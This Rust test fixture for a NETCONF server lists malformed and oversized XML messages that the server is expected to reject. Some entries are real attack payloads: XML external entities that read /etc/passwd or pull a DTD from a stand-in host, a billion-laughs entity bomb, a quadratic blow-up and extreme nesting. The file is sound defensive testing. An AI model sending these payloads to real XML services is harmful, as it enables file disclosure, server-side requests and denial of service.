//! Malformed messages, and messages that exceed limits.
//!
//! Each names the rule that it violates. The expected answers are in `hostile.rs`.

use netconf::names::namespace::BASE;

/// A message with the rule that it breaks.
pub(crate) type Message = (&'static str, Vec<u8>);

/// An `<rpc>` with this content.
pub(crate) fn rpc(inside: &str) -> Vec<u8> {
    format!("<rpc message-id=\"1\" xmlns=\"{BASE}\">{inside}</rpc>").into_bytes()
}

fn before(prologue: &str) -> Vec<u8> {
    [prologue.as_bytes(), &rpc("<get/>")].concat()
}

fn after(epilogue: &str) -> Vec<u8> {
    [&rpc("<get/>"), epilogue.as_bytes()].concat()
}

/// Bytes that need not be UTF-8, as the text of an element.
fn bytes(text: &[u8]) -> Vec<u8> {
    let whole = rpc("<get>HERE</get>");
    let at = whole.windows(4).position(|w| w == b"HERE").unwrap();
    [&whole[..at], text, &whole[at + 4..]].concat()
}

fn utf16(text: &str, big: bool) -> Vec<u8> {
    let units = std::iter::once(0xFEFF).chain(text.encode_utf16());
    let split = |unit: u16| {
        if big {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        }
    };
    units.flat_map(split).collect()
}

const LAUGHS: &str = "<!DOCTYPE rpc [<!ENTITY a \"lol\">\
<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\
<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\
<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\
<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\"><!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">]>";

/// Messages that are not well-formed XML, or no `<rpc>`.
pub(crate) fn malformed() -> Vec<Message> {
    let rpc_text = String::from_utf8(rpc("<get/>")).unwrap();
    let quadratic = format!(
        "<!DOCTYPE rpc [<!ENTITY a \"{}\">]>{}",
        "x".repeat(50_000),
        String::from_utf8(rpc(&"&a;".repeat(10_000))).unwrap()
    );
    let mut all = vec![
        // Document types, entities, processing instructions: not in NETCONF (RFC 6241 §3).
        ("doctype", before("<!DOCTYPE rpc>")),
        (
            "doctype with entity",
            before("<!DOCTYPE rpc [<!ENTITY x \"y\">]>"),
        ),
        (
            "doctype of a file",
            before("<!DOCTYPE rpc [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        ),
        (
            "doctype of a URL",
            before("<!DOCTYPE rpc SYSTEM \"http://192.0.2.1/evil.dtd\">"),
        ),
        (
            "doctype with parameter entity",
            before("<!DOCTYPE rpc [<!ENTITY % p SYSTEM \"http://192.0.2.1/p\"> %p;]>"),
        ),
        ("doctype behind the root", after("<!DOCTYPE rpc>")),
        ("doctype within", rpc("<!DOCTYPE rpc><get/>")),
        ("doctype unclosed", before("<!DOCTYPE rpc [")),
        ("billion laughs", before(LAUGHS)),
        ("quadratic blow-up", quadratic.into_bytes()),
        ("entity declared within", rpc("<!ENTITY x \"y\"><get/>")),
        ("element declared within", rpc("<!ELEMENT get ANY><get/>")),
        ("conditional section", rpc("<![INCLUDE[<get/>]]>")),
        ("instruction before", before("<?php echo 1 ?>")),
        ("instruction within", rpc("<?target data?><get/>")),
        ("instruction behind", after("<?target data?>")),
        ("instruction unclosed", rpc("<?target <get/>")),
        (
            "declaration behind a blank",
            before(" <?xml version=\"1.0\"?>"),
        ),
        (
            "declaration twice",
            before("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>"),
        ),
        (
            "declaration without version",
            before("<?xml encoding=\"UTF-8\"?>"),
        ),
        (
            "declaration of another encoding",
            before("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
        ),
        (
            "declaration of UTF-16 in UTF-8",
            before("<?xml version=\"1.0\" encoding=\"UTF-16\"?>"),
        ),
        // Characters (XML 1.0 §2.2) and references (§4.1, §4.6).
        ("NUL", bytes(b"\0")),
        ("control 1", bytes(b"\x01")),
        ("backspace", bytes(b"\x08")),
        ("vertical tab", bytes(b"\x0b")),
        ("escape", bytes(b"\x1b[31m")),
        ("unit separator", bytes(b"\x1f")),
        ("U+FFFE", bytes(b"\xEF\xBF\xBE")),
        ("U+FFFF", bytes(b"\xEF\xBF\xBF")),
        ("NUL in an attribute", rpc("<get a=\"\0\"/>")),
        ("NUL in a name", rpc("<g\0t/>")),
        ("reference to NUL", rpc("<get>&#0;</get>")),
        ("reference to a control", rpc("<get>&#x1;</get>")),
        ("reference to a surrogate", rpc("<get>&#xD800;</get>")),
        ("reference to U+FFFE", rpc("<get>&#xFFFE;</get>")),
        ("reference beyond Unicode", rpc("<get>&#x110000;</get>")),
        (
            "reference beyond numbers",
            rpc("<get>&#99999999999999999999;</get>"),
        ),
        ("reference to nothing", rpc("<get>&#;</get>")),
        ("hexadecimal reference to nothing", rpc("<get>&#x;</get>")),
        ("reference without number", rpc("<get>&#12a;</get>")),
        ("entity without name", rpc("<get>&;</get>")),
        ("undefined entity", rpc("<get>&nope;</get>")),
        ("entity of HTML", rpc("<get>&nbsp;</get>")),
        ("entity in another case", rpc("<get>&AMP;</get>")),
        (
            "undefined entity in an attribute",
            rpc("<get a=\"&nope;\"/>"),
        ),
        ("bare ampersand", rpc("<get>a & b</get>")),
        ("ampersand in an attribute", rpc("<get a=\"b&c\"/>")),
        ("reference unclosed", rpc("<get>&amp</get>")),
        // Encodings.
        ("byte 255", bytes(b"\xFF")),
        ("lone continuation", bytes(b"\x80")),
        ("sequence cut short", bytes(b"\xE2\x82")),
        ("overlong in two", bytes(b"\xC0\x80")),
        ("overlong slash", bytes(b"\xC0\xAF")),
        ("overlong in three", bytes(b"\xE0\x80\xAF")),
        ("overlong in four", bytes(b"\xF0\x80\x80\xAF")),
        ("surrogate", bytes(b"\xED\xA0\x80")),
        ("pair of surrogates", bytes(b"\xED\xA0\xBD\xED\xB8\x80")),
        ("beyond Unicode", bytes(b"\xF4\x90\x80\x80")),
        ("five bytes", bytes(b"\xF8\x88\x80\x80\x80")),
        ("Latin-1", bytes(b"\xE9t\xE9")),
        ("UTF-16, big end first", utf16(&rpc_text, true)),
        ("UTF-16, little end first", utf16(&rpc_text, false)),
        ("two byte order marks", before("\u{FEFF}\u{FEFF}")),
        ("byte order mark behind a blank", before(" \u{FEFF}")),
        // Structure.
        ("nothing", Vec::new()),
        ("blanks", b" \r\n\t ".to_vec()),
        ("comment only", b"<!-- nothing -->".to_vec()),
        ("declaration only", b"<?xml version=\"1.0\"?>".to_vec()),
        ("text only", b"get everything".to_vec()),
        ("JSON", b"{\"rpc\": {\"get\": null}}".to_vec()),
        (
            "HTTP",
            b"GET /restconf/data HTTP/1.1\r\nHost: a\r\n\r\n".to_vec(),
        ),
        ("two roots", after(&rpc_text)),
        ("text before the root", before("x")),
        ("text behind the root", after("x")),
        ("CDATA behind the root", after("<![CDATA[x]]>")),
        ("reference behind the root", after("&amp;")),
        (
            "root unclosed",
            rpc("<get/>")[..rpc("<get/>").len() - 6].to_vec(),
        ),
        (
            "tag unclosed",
            rpc("<get/>")[..rpc("<get/>").len() - 1].to_vec(),
        ),
        ("element unclosed", rpc("<get>")),
        ("element closed by another", rpc("<get></got>")),
        ("elements crossed", rpc("<get><a></get></a>")),
        ("end tag too many", rpc("<get/></get>")),
        ("end tag first", b"</rpc>".to_vec()),
        ("end tag with attribute", rpc("<get></get a=\"1\">")),
        (
            "end tag of another prefix",
            rpc("<a:get xmlns:a=\"u\" xmlns:b=\"u\"></b:get>"),
        ),
        ("blank before the name", rpc("< get/>")),
        ("no name", rpc("<>x</>")),
        ("slash within", rpc("<get/ >")),
        ("name that begins with a digit", rpc("<1get/>")),
        ("name that begins with a hyphen", rpc("<-get/>")),
        ("name with a dollar", rpc("<ge$t/>")),
        ("angle bracket in a name", rpc("<get<a/>")),
        // Attributes.
        ("attribute twice", rpc("<get a=\"1\" a=\"2\"/>")),
        (
            "attribute twice by namespace",
            rpc("<get xmlns:a=\"u\" xmlns:b=\"u\" a:x=\"1\" b:x=\"2\"/>"),
        ),
        ("attribute without value", rpc("<get a/>")),
        ("attribute without quotes", rpc("<get a=1/>")),
        ("attribute of two quotes", rpc("<get a=\"1'/>")),
        ("attributes without blank", rpc("<get a=\"1\"b=\"2\"/>")),
        ("attribute name with a digit first", rpc("<get 1a=\"1\"/>")),
        ("angle bracket in an attribute", rpc("<get a=\"<\"/>")),
        // Namespaces.
        ("unbound prefix", rpc("<nc:get/>")),
        ("unbound prefix of an attribute", rpc("<get nc:a=\"1\"/>")),
        ("prefix out of scope", rpc("<a xmlns:p=\"u\"/><p:get/>")),
        ("prefix unbound again", rpc("<get xmlns:p=\"\"/>")),
        (
            "namespace declared twice",
            rpc("<get xmlns:p=\"u\" xmlns:p=\"v\"/>"),
        ),
        ("prefix xmlns declared", rpc("<get xmlns:xmlns=\"u\"/>")),
        ("prefix xml declared anew", rpc("<get xmlns:xml=\"u\"/>")),
        (
            "namespace of xml taken",
            rpc("<get xmlns:p=\"http://www.w3.org/XML/1998/namespace\"/>"),
        ),
        ("element with prefix xmlns", rpc("<xmlns:get/>")),
        ("two colons", rpc("<a:b:get xmlns:a=\"u\"/>")),
        ("colon first", rpc("<:get/>")),
        ("colon last", rpc("<a: xmlns:a=\"u\"/>")),
        // Comments and CDATA.
        ("two hyphens in a comment", rpc("<!-- a -- b --><get/>")),
        ("comment that ends in three", rpc("<!-- a ---><get/>")),
        ("comment unclosed", rpc("<!-- <get/>")),
        ("CDATA unclosed", rpc("<get><![CDATA[x</get>")),
        ("CDATA in lower case", rpc("<get><![cdata[x]]></get>")),
        ("end of CDATA in text", rpc("<get>]]></get>")),
        // XML, but nothing that a client says after its hello.
        ("another root", b"<get/>".to_vec()),
        (
            "rpc of no namespace",
            b"<rpc message-id=\"1\"><get/></rpc>".to_vec(),
        ),
        (
            "rpc of another namespace",
            b"<rpc xmlns=\"urn:x\" message-id=\"1\"><get/></rpc>".to_vec(),
        ),
    ];
    for name in ["rpc-reply", "notification", "hello"] {
        let message = format!("<{name} xmlns=\"{BASE}\"/>");
        all.push(("what is not for a server", message.into_bytes()));
    }
    all
}

/// Nests elements so that `depth` are open, including the `<rpc>`.
pub(crate) fn nested(depth: usize) -> Vec<u8> {
    rpc(&format!(
        "{}{}",
        "<a>".repeat(depth - 1),
        "</a>".repeat(depth - 1)
    ))
}

/// An operation with so many attributes.
pub(crate) fn attributes(count: usize) -> Vec<u8> {
    let attributes: String = (0..count).map(|n| format!(" a{n}=\"\"")).collect();
    rpc(&format!("<get{attributes}/>"))
}

/// An operation with so many namespace declarations.
pub(crate) fn namespaces(count: usize) -> Vec<u8> {
    let declared: String = (0..count).map(|n| format!(" xmlns:n{n}=\"u\"")).collect();
    rpc(&format!("<get{declared}/>"))
}

/// An operation with a name of so many bytes.
pub(crate) fn name(bytes: usize) -> Vec<u8> {
    rpc(&format!("<{}/>", "n".repeat(bytes)))
}

/// Messages that exceed a limit by one, or by far.
pub(crate) fn too_big() -> Vec<Message> {
    vec![
        ("65 deep", nested(65)),
        ("a million deep", nested(1_000_000)),
        ("a million deep and never closed", {
            let open = rpc("").strip_suffix(b"</rpc>").unwrap().to_vec();
            [&open, "<a>".repeat(1_000_000).as_bytes()].concat()
        }),
        ("65 attributes", attributes(65)),
        ("half a million attributes", attributes(500_000)),
        ("33 namespaces", namespaces(33)),
        ("300,000 namespaces", namespaces(300_000)),
        ("a name of 257 bytes", name(257)),
        ("a name of 4 MB", name(4_000_000)),
        (
            "an attribute's name of 257 bytes",
            rpc(&format!("<get {}=\"\"/>", "n".repeat(257))),
        ),
        ("600,000 elements", rpc(&"<a/>".repeat(600_000))),
        ("8 MiB and a byte", {
            let frame = rpc("<get></get>").len();
            rpc(&format!("<get>{}</get>", "x".repeat((8 << 20) + 1 - frame)))
        }),
    ]
}

/// Messages exactly at the limits: accepted.
pub(crate) fn just_fits() -> Vec<Message> {
    vec![
        ("64 deep", nested(64)),
        ("64 attributes", attributes(64)),
        ("32 namespaces", namespaces(32)),
        ("a name of 256 bytes", name(256)),
        ("8 MiB", {
            let frame = rpc("<get></get>").len();
            rpc(&format!("<get>{}</get>", "x".repeat((8 << 20) - frame)))
        }),
    ]
}

/// Violations of the grammar of chunks (RFC 6242 §4.2).
pub(crate) const BAD_CHUNKS: &[(&str, &[u8])] = &[
    ("no line feed first", b"#3\nabc\n##\n"),
    ("no framing", b"<rpc/>"),
    ("end-of-message framing", b"\n]]>]]>"),
    ("size 0", b"\n#0\n\n##\n"),
    ("leading zero", b"\n#03\nabc\n##\n"),
    ("plus sign", b"\n#+3\nabc\n##\n"),
    ("minus sign", b"\n#-3\nabc\n##\n"),
    ("blank before the size", b"\n# 3\nabc\n##\n"),
    ("blank behind the size", b"\n#3 \nabc\n##\n"),
    ("hexadecimal size", b"\n#a\nabcdefghij\n##\n"),
    ("size with letters", b"\n#3a\nabc\n##\n"),
    ("size 4294967296", b"\n#4294967296\n"),
    ("size of twenty digits", b"\n#99999999999999999999\n"),
    ("no size", b"\n#\nabc\n##\n"),
    ("carriage return before", b"\r\n#3\nabc\n##\n"),
    ("carriage return behind", b"\n#3\r\nabc\n##\n"),
    ("end without chunk", b"\n##\n"),
    ("two line feeds", b"\n\n#3\nabc\n##\n"),
    ("chunk longer than its size", b"\n#3\nabcd\n##\n"),
    ("no line feed behind the end", b"\n#3\nabc\n##x"),
    ("three hashes", b"\n#3\nabc\n###\n"),
    ("junk behind the end", b"\n#3\nabc\n##junk\n"),
];
